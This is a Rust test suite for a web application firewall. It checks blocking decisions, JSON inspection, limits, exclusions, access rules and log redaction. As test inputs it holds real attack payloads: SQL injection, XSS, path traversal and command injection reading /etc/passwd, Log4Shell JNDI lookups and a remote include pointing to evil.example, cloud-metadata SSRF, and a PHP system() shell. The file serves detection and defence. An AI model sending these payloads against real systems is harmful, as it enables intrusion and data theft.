//! Behaviour of the WAF through its public API.

use std::collections::BTreeMap;
use std::net::IpAddr;

use edge_waf::{Action, Exclusion, Family, Mode, Reason, RequestView, Waf, WafConfig};

fn h(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    let mut v: Vec<(String, String)> = pairs
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    if !v.iter().any(|(k, _)| k.eq_ignore_ascii_case("host")) {
        v.push(("Host".into(), "shop.example.com".into()));
    }
    v
}

fn get(waf: &Waf, uri: &str) -> edge_waf::Decision {
    let headers = h(&[("User-Agent", "Mozilla/5.0"), ("Accept", "text/html")]);
    waf.inspect(&RequestView {
        method: "GET",
        uri,
        headers: &headers,
        body: None,
        body_len: None,
        client_ip: None,
        country: None,
        asn: None,
    })
}

fn post(waf: &Waf, uri: &str, ct: &str, body: &[u8]) -> edge_waf::Decision {
    let len = body.len().to_string();
    let headers = h(&[("Content-Type", ct), ("Content-Length", &len)]);
    waf.inspect(&RequestView {
        method: "POST",
        uri,
        headers: &headers,
        body: Some(body),
        body_len: Some(body.len() as u64),
        client_ip: None,
        country: None,
        asn: None,
    })
}

#[test]
fn blocks_attacks_with_403_and_passes_storefront_requests() {
    let waf = Waf::new(WafConfig::default()).unwrap();
    for uri in [
        "/store/products?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
        "/store/products?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/search?file=..%2f..%2f..%2fetc%2fpasswd",
        "/x?cmd=%3Bcat%20/etc/passwd",
        "/x?u=${jndi:ldap://evil.example/a}",
        "/x?u=$%7B$%7Blower:j%7Dndi:ldap://evil.example/a%7D",
        "/x?url=http://169.254.169.254/latest/meta-data/",
        "/x?code=%3C%3Fphp%20system($_GET[c]);",
    ] {
        let d = get(&waf, uri);
        assert_eq!(d.action, Action::Block { status: 403 }, "{uri}: {d:?}");
        assert!(d.score >= 5);
        assert!(!d.matches.is_empty());
    }
    for uri in [
        "/store/products?q=women%27s%20%22slim%20fit%22%20jeans&limit=12",
        "/_next/image?url=https%3A%2F%2Fcdn.example.com%2Fp%2Fa.jpg&w=1080&q=75",
        "/gb/products/hoodie",
    ] {
        let d = get(&waf, uri);
        assert_eq!(d.action, Action::Allow, "{uri}: {d:?}");
    }
}

#[test]
fn json_body_fields_are_inspected() {
    let waf = Waf::new(WafConfig::default()).unwrap();
    let d = post(
        &waf,
        "/store/carts",
        "application/json",
        br#"{"email":"a@b.c","metadata":{"note":"x' OR '1'='1"}}"#,
    );
    assert!(d.is_blocked(), "{d:?}");
    assert!(d
        .matches
        .iter()
        .any(|m| m.location == "args:metadata.note" && m.family == Family::Sqli));
    let d = post(
        &waf,
        "/store/carts",
        "application/json",
        br#"{"email":"o'brien@example.ie","metadata":{"note":"Apt #4 & co"}}"#,
    );
    assert_eq!(d.action, Action::Allow, "{d:?}");
}

#[test]
fn json_fields_are_named_by_key_path_through_arrays_and_nested_objects() {
    let waf = Waf::new(WafConfig::default()).unwrap();
    // Objects in an array repeat their keys (the parser's hint path), with a
    // nested object and array between members, and a key order change.
    let body = br#"{"cart":{"items":[{"id":"a","meta":{"tags":["x","y"]},"note":"ok"},{"id":"b","meta":{"tags":[]},"note":"1' OR '1'='1"},{"note":"fine","id":"c"}]},"tail":"<script>alert(1)</script>"}"#;
    let d = post(&waf, "/store/carts", "application/json", body);
    assert!(d.is_blocked(), "{d:?}");
    let locs: Vec<&str> = d.matches.iter().map(|m| m.location.as_str()).collect();
    assert!(locs.contains(&"args:cart.items.note"), "{locs:?}");
    assert!(locs.contains(&"args:tail"), "{locs:?}");
}

#[test]
fn equal_values_under_names_that_matter_are_each_inspected() {
    let waf = Waf::new(WafConfig::default()).unwrap();
    // A scanner's User-Agent after a header with the same value.
    let headers = h(&[
        ("X-Client", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    ]);
    let d = waf.inspect(&RequestView {
        method: "GET",
        uri: "/store/products",
        headers: &headers,
        body: None,
        body_len: None,
        client_ip: None,
        country: None,
        asn: None,
    });
    assert!(
        d.matches.iter().any(|m| m.family == Family::Scanner),
        "{d:?}"
    );
    // A remote include URL under an include-path name, seen before under
    // a harmless one.
    let d = get(
        &waf,
        "/index.php?ref=http://evil.example/shell.txt&include_path=http://evil.example/shell.txt",
    );
    assert!(d.matches.iter().any(|m| m.id == 931110), "{d:?}");
}

#[test]
fn too_many_arguments_are_refused_not_skipped() {
    let mut cfg = WafConfig::default();
    cfg.limits.max_args = 50;
    let waf = Waf::new(cfg).unwrap();
    // Repeated key paths count once: 30 array items of two keys are 33
    // arguments (30 values, 3 key paths), not 91.
    let items: Vec<String> = (0..30)
        .map(|i| format!(r#"{{"id":"item_{i}","qty":{i}}}"#))
        .collect();
    let body = format!(r#"{{"items":[{}]}}"#, items.join(","));
    let d = post(&waf, "/store/carts", "application/json", body.as_bytes());
    assert_eq!(d.action, Action::Allow, "{d:?}");
    // 60 distinct keys are more arguments than inspected: 413.
    let keys: Vec<String> = (0..60).map(|i| format!(r#""k{i}":"v""#)).collect();
    let body = format!("{{{}}}", keys.join(","));
    let d = post(&waf, "/store/carts", "application/json", body.as_bytes());
    assert_eq!(d.action, Action::Block { status: 413 }, "{d:?}");
    let query: Vec<String> = (0..60).map(|i| format!("k{i}=v")).collect();
    let d = get(&waf, &format!("/store/products?{}", query.join("&")));
    assert_eq!(d.action, Action::Block { status: 413 }, "{d:?}");
}

#[test]
fn protocol_violations_get_400_413_405() {
    let waf = Waf::new(WafConfig::default()).unwrap();
    // Content-Length together with Transfer-Encoding
    let headers = h(&[
        ("Content-Length", "4"),
        ("Transfer-Encoding", "chunked"),
        ("Content-Type", "text/plain"),
    ]);
    let d = waf.inspect(&RequestView {
        method: "POST",
        uri: "/store/carts",
        headers: &headers,
        body: Some(b"abcd"),
        body_len: Some(4),
        client_ip: None,
        country: None,
        asn: None,
    });
    assert_eq!(d.action, Action::Block { status: 400 });
    assert_eq!(d.reason, Some(Reason::ProtocolViolation));
    // malformed percent-encoding
    assert_eq!(
        get(&waf, "/store/products?q=100%zz").action,
        Action::Block { status: 400 }
    );
    // oversized body
    let headers = h(&[
        ("Content-Length", "104857600"),
        ("Content-Type", "application/json"),
    ]);
    let d = waf.inspect(&RequestView {
        method: "POST",
        uri: "/store/carts",
        headers: &headers,
        body: None,
        body_len: Some(100 * 1024 * 1024),
        client_ip: None,
        country: None,
        asn: None,
    });
    assert_eq!(d.action, Action::Block { status: 413 });
    // bad method
    let headers = h(&[]);
    let d = waf.inspect(&RequestView {
        method: "TRACK",
        uri: "/",
        headers: &headers,
        body: None,
        body_len: None,
        client_ip: None,
        country: None,
        asn: None,
    });
    assert_eq!(d.action, Action::Block { status: 405 });
    // disallowed content type
    let d = post(&waf, "/store/carts", "application/x-evil", b"a");
    assert_eq!(d.action, Action::Block { status: 400 });
    // deeply nested JSON and invalid JSON
    let deep = format!("{}1{}", "[".repeat(5000), "]".repeat(5000));
    assert_eq!(
        post(&waf, "/store/carts", "application/json", deep.as_bytes()).action,
        Action::Block { status: 400 }
    );
    assert_eq!(
        post(&waf, "/store/carts", "application/json", b"{\"a\":").action,
        Action::Block { status: 400 }
    );
    // invalid UTF-8 never panics
    let d = post(
        &waf,
        "/store/carts",
        "application/x-www-form-urlencoded",
        b"a=\xff\xfe\xfd&b=%ff%c0%ae",
    );
    assert!(matches!(d.action, Action::Allow | Action::Block { .. }));
}

#[test]
fn log_only_mode_logs_but_does_not_block() {
    let mut groups = BTreeMap::new();
    groups.insert(Family::Sqli, Mode::LogOnly);
    let waf = Waf::new(WafConfig {
        groups,
        ..WafConfig::default()
    })
    .unwrap();
    let d = get(
        &waf,
        "/store/products?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
    );
    assert_eq!(d.action, Action::Allow, "{d:?}");
    assert_eq!(d.score, 0);
    assert!(d.log_only_score >= 5);
    assert!(d.matches.iter().all(|m| m.mode == Mode::LogOnly));
    let line: serde_json::Value = serde_json::from_str(&d.log_line("req-42")).unwrap();
    assert_eq!(line["request_id"], "req-42");
    assert_eq!(line["action"], "allow");
    assert!(line["rules"]
        .as_array()
        .unwrap()
        .iter()
        .any(|r| r["family"] == "sqli" && r["mode"] == "log-only"));
    // other families still block
    assert!(get(&waf, "/x?q=%3Cscript%3Ealert(1)%3C/script%3E").is_blocked());
}

#[test]
fn off_mode_disables_a_group() {
    let mut groups = BTreeMap::new();
    groups.insert(Family::Xss, Mode::Off);
    let waf = Waf::new(WafConfig {
        groups,
        ..WafConfig::default()
    })
    .unwrap();
    let d = get(&waf, "/x?q=%3Cscript%3Ealert(1)%3C/script%3E");
    assert!(d.matches.iter().all(|m| m.family != Family::Xss), "{d:?}");
}

#[test]
fn per_route_per_field_exclusions() {
    let waf = Waf::new(WafConfig::default()).unwrap();
    let body = br#"{"title":"Hoodie","description":"<p>Soft <script>track()</script> <img src=x onerror=y></p>"}"#;
    // default exclusion: admin product descriptions may contain HTML
    assert_eq!(
        post(&waf, "/admin/products", "application/json", body).action,
        Action::Allow
    );
    assert_eq!(
        post(&waf, "/admin/products/prod_1", "application/json", body).action,
        Action::Allow
    );
    // the same field elsewhere is inspected
    assert!(post(&waf, "/store/carts", "application/json", body).is_blocked());
    // another field on the excluded route is inspected
    let body2 = br#"{"title":"<script>alert(1)</script>","description":"ok"}"#;
    assert!(post(&waf, "/admin/products", "application/json", body2).is_blocked());
    // config without exclusions blocks the description too
    let strict = Waf::new(WafConfig {
        exclusions: vec![],
        ..WafConfig::default()
    })
    .unwrap();
    assert!(strict
        .inspect(&RequestView {
            method: "POST",
            uri: "/admin/products",
            headers: &h(&[("Content-Type", "application/json")]),
            body: Some(body),
            body_len: None,
            client_ip: None,
            country: None,
            asn: None
        })
        .is_blocked());
    // exclusion by rule id
    let by_rule = Waf::new(WafConfig {
        exclusions: vec![Exclusion {
            path: "/store/*".into(),
            fields: vec!["q".into()],
            families: vec![],
            rules: vec![941110, 941100, 941160, 941150, 941120],
        }],
        ..WafConfig::default()
    })
    .unwrap();
    let d = get(
        &by_rule,
        "/store/products?q=%3Cscript%3Ealert(1)%3C/script%3E",
    );
    assert!(
        d.matches
            .iter()
            .all(|m| ![941110, 941100, 941160, 941150, 941120].contains(&m.id)),
        "{d:?}"
    );
}

#[test]
fn access_rules_ip_country_asn_and_protected_paths() {
    let mut cfg = WafConfig::default();
    cfg.access.allow_ips = vec!["2001:db8:1::/48".into(), "198.51.100.7".into()];
    cfg.access.deny_ips = vec!["203.0.113.0/24".into(), "2001:db8:bad::/48".into()];
    cfg.access.deny_countries = vec!["kp".into()];
    cfg.access.deny_asns = vec![64512];
    let waf = Waf::new(cfg).unwrap();
    let headers = h(&[]);
    let req = |ip: &str, country: Option<&'static str>, asn: Option<u32>| {
        let ip: IpAddr = ip.parse().unwrap();
        waf.inspect(&RequestView {
            method: "GET",
            uri: "/",
            headers: &headers,
            body: None,
            body_len: None,
            client_ip: Some(ip),
            country,
            asn,
        })
    };
    assert_eq!(
        req("203.0.113.9", None, None).reason,
        Some(Reason::AccessDenied)
    );
    assert_eq!(
        req("203.0.113.9", None, None).action,
        Action::Block { status: 403 }
    );
    assert!(req("2001:db8:bad::1", None, None).is_blocked());
    assert!(req("192.0.2.1", Some("KP"), None).is_blocked());
    assert!(req("192.0.2.1", None, Some(64512)).is_blocked());
    assert!(!req("192.0.2.1", Some("DE"), Some(13335)).is_blocked());
    assert!(waf.requires_access_jwt("/admin/products", Some("192.0.2.1".parse().unwrap())));
    assert!(waf.requires_access_jwt("/admin", None));
    assert!(waf.requires_access_jwt("/app/login", None));
    assert!(waf.requires_access_jwt("/store/../admin/users", None));
    assert!(!waf.requires_access_jwt("/admin/products", Some("2001:db8:1::42".parse().unwrap())));
    assert!(!waf.requires_access_jwt("/admin/products", Some("198.51.100.7".parse().unwrap())));
    assert!(!waf.requires_access_jwt("/store/products", None));
    // bad CIDR in config is a clear error
    let mut bad = WafConfig::default();
    bad.access.deny_ips = vec!["10.0.0.0/40".into()];
    let err = Waf::new(bad).err().unwrap().to_string();
    assert!(err.contains("10.0.0.0/40"), "{err}");
}

#[test]
fn config_toml_defaults_and_unknown_keys() {
    let cfg: WafConfig =
        toml::from_str("paranoia = 2\nthreshold = 7\n[groups]\nxss = \"log-only\"\n").unwrap();
    assert_eq!(cfg.paranoia, 2);
    assert_eq!(cfg.threshold, 7);
    assert_eq!(cfg.groups.get(&Family::Xss), Some(&Mode::LogOnly));
    assert_eq!(cfg.limits, WafConfig::default().limits);
    let err = toml::from_str::<WafConfig>("paranoya = 2")
        .unwrap_err()
        .to_string();
    assert!(err.contains("paranoya"), "{err}");
    let err = toml::from_str::<WafConfig>("[limits]\nmax_body = 1")
        .unwrap_err()
        .to_string();
    assert!(err.contains("max_body"), "{err}");
    assert!(Waf::new(WafConfig {
        paranoia: 9,
        ..WafConfig::default()
    })
    .is_err());
    let empty: WafConfig = toml::from_str("").unwrap();
    assert_eq!(empty, WafConfig::default());
}

#[test]
fn log_line_is_one_json_line_without_values() {
    let waf = Waf::new(WafConfig::default()).unwrap();
    let d = get(
        &waf,
        "/store/products?secret_token=abc123&q=%3Cscript%3Ealert(1)%3C/script%3E",
    );
    let line = d.log_line("rid-1");
    assert!(!line.contains('\n'));
    assert!(
        !line.contains("abc123"),
        "values never reach the log: {line}"
    );
    let v: serde_json::Value = serde_json::from_str(&line).unwrap();
    assert_eq!(v["action"], "block");
    assert_eq!(v["status"], 403);
    assert!(v["rules"].as_array().unwrap().iter().any(|r| r["id"]
        .as_u64()
        .is_some_and(|id| (941000..942000).contains(&id))));
}

fn matched(d: &edge_waf::Decision, id: u32) -> bool {
    d.matches.iter().any(|m| m.id == id)
}

fn with_cookie(waf: &Waf, uri: &str, cookie: &str) -> edge_waf::Decision {
    let headers = h(&[("User-Agent", "Mozilla/5.0"), ("Cookie", cookie)]);
    waf.inspect(&RequestView {
        method: "GET",
        uri,
        headers: &headers,
        body: None,
        body_len: None,
        client_ip: None,
        country: None,
        asn: None,
    })
}

#[test]
fn php_open_tag_is_looked_for_as_php_reads_the_value() {
    let waf = Waf::new(WafConfig::default()).unwrap();
    // `<?php` with nothing after it opens no code; an HTML entity is
    // escaped text to PHP, which does not decode entities.
    for uri in [
        "/get?%3C%3Fphp=value",
        "/get?foo=%26lt%3B%3F%20should%20not%20trigger",
        "/blog/comment?text=use%20%26lt%3B%3Fphp%20and%20%3F%26gt%3B%20tags",
    ] {
        let d = get(&waf, uri);
        assert_eq!(d.action, Action::Allow, "{uri}: {d:?}");
    }
    let d = with_cookie(&waf, "/get", "session=<?php");
    assert_eq!(d.action, Action::Allow, "{d:?}");
    let d = post(
        &waf,
        "/api",
        "application/json",
        br#"{"snippet":"&lt;?php echo 1; ?&gt;"}"#,
    );
    assert!(!matched(&d, 933100), "{d:?}");
    // Real open tags, also double-encoded, in a cookie, and in XML, whose
    // parser does replace `&lt;`.
    for uri in [
        "/get?foo=%3C%3Fphp%20echo%20%22test%22",
        "/get?foo=%3C%3F%3D%20%22test%22",
        "/get?foo=test%3C%3F",
        "/get?foo=%253C%253Fphp%2520echo%25201",
        "/get?foo=%5Bphp%5Decho%20%22test%22",
    ] {
        let d = get(&waf, uri);
        assert!(matched(&d, 933100), "{uri}: {d:?}");
        assert_eq!(d.action, Action::Block { status: 403 }, "{uri}: {d:?}");
    }
    let d = with_cookie(&waf, "/profile", "session=<?php phpinfo(); ?>");
    assert!(matched(&d, 933100), "{d:?}");
    assert_eq!(d.action, Action::Block { status: 403 }, "{d:?}");
    let d = post(
        &waf,
        "/api",
        "application/xml",
        br#"<root><a probe="&lt;?php echo 1; ?&gt;"/></root>"#,
    );
    assert!(matched(&d, 933100), "{d:?}");
    assert_eq!(d.action, Action::Block { status: 403 }, "{d:?}");
}

#[test]
fn dom_sink_names_in_a_path_need_a_way_out_of_their_context() {
    let waf = Waf::new(WafConfig::default()).unwrap();
    // A documentation page named after a DOM property.
    for uri in [
        "/get/javascript-manual/document.cookie",
        "/docs/dom/window.location",
    ] {
        let d = get(&waf, uri);
        assert_eq!(d.action, Action::Allow, "{uri}: {d:?}");
    }
    for uri in [
        "/p/x%22%3Bdocument.cookie",
        "/p/%27%3Bwindow.location",
        "/p/%3Csvg%20onload=alert(1)%3E",
    ] {
        let d = get(&waf, uri);
        assert!(matched(&d, 941151), "{uri}: {d:?}");
        assert_eq!(d.action, Action::Block { status: 403 }, "{uri}: {d:?}");
    }
    // In arguments the bare property still counts.
    let d = get(&waf, "/search?q=document.cookie");
    assert!(matched(&d, 941150), "{d:?}");
    assert_eq!(d.action, Action::Block { status: 403 }, "{d:?}");
}

#[test]
fn sql_tautology_needs_an_operand_before_the_comparison() {
    let waf = Waf::new(WafConfig::default()).unwrap();
    let d = get(&waf, "/get?var=%22%27%20and%20%3d%20bar");
    assert!(!matched(&d, 942110), "{d:?}");
    assert_eq!(d.action, Action::Allow, "{d:?}");
    for uri in [
        "/get?var=%27%20or%20%27a%27%3D%27a",
        "/get?id=1%20and%201%3D1",
        "/get?var=%27%20or%20%28%29%3D%28%29",
    ] {
        let d = get(&waf, uri);
        assert!(matched(&d, 942110), "{uri}: {d:?}");
        assert_eq!(d.action, Action::Block { status: 403 }, "{uri}: {d:?}");
    }
}
